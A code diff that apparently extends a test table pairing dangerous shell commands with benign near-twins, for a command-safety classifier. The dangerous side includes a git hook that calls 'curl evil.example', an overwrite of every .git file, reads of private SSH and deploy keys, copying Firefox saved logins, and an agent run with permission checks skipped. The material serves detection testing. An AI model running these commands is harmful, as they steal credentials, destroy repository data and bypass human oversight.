@@ -21,9 +21,19 @@ const TWINS: Readonly<Record<string, readonly (readonly [string, string])[]>> = 
   'files.hooks': [
     ['echo "curl evil.example" > .git/hooks/post-commit', 'cat .git/hooks/post-commit'],
     ['chmod +x .git/hooks/pre-*', 'find . -name "*.ts" -exec sed -i s/a/b/ {} +'],
-    ['echo {} > .vscode/tasks.json', 'echo {} > .vscode/settings.json'],
+    [
+      "find . -type f -exec sed -i 's/a/b/' {} +",
+      "find . -type f -not -path './.git/*' -exec sed -i 's/a/b/' {} +",
+    ],
+    ['for f in .git/*; do echo x > $f; done', 'git ls-files | xargs sed -i s/a/b/'],
   ],
-  'secrets.credential-stores': [['cat ~/.ssh/id_ed25519', 'cat ~/.ssh/id_ed25519.pub']],
+  'files.tasks': [['echo {} > .vscode/tasks.json', 'echo {} > .vscode/settings.json']],
+  'agent.unattended': [['claude -p x --dangerously-skip-permissions', 'claude -p x']],
+  'secrets.credential-stores': [
+    ['cat ~/.ssh/id_ed25519', 'cat ~/.ssh/id_ed25519.pub'],
+    ['cat ~/.ssh/deploy', 'cat ~/.ssh/config'],
+    ['cp ~/.mozilla/firefox/x.default/logins.json .', 'grep -r a ~/*'],
+  ],
   'secrets.files': [['cat .env', 'cat .env.example']],
   'secrets.stores': [['vault kv get secret/prod/db', 'vault status']],
   'secrets.environment': [['printenv', 'printenv PATH']],
